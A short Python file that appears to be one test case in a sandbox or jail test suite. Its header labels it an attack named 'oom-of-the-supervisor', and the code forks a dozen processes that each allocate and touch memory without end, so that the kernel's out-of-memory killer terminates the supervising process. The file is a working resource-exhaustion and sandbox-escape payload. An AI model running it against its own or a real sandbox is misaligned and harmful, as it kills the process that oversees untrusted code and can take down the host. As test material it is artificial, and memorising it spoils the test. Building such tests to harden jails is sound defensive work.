# attack: jail/oom-of-the-supervisor
# oracle: runaway
# imports: os, mmap
# tools:
# source: own
# note: many processes, each smaller than the supervisor, fill the session's memory, so that the kernel picks the supervisor
import mmap
import os
import time

try:
    for _ in range(12):
        if os.fork() == 0:
            break
except OSError:
    pass
held = []
while True:
    try:
        held.append(mmap.mmap(-1, 1 << 20))
        for at in range(0, 1 << 20, 4096):
            held[-1][at] = 1
    except OSError:
        time.sleep(0.01)
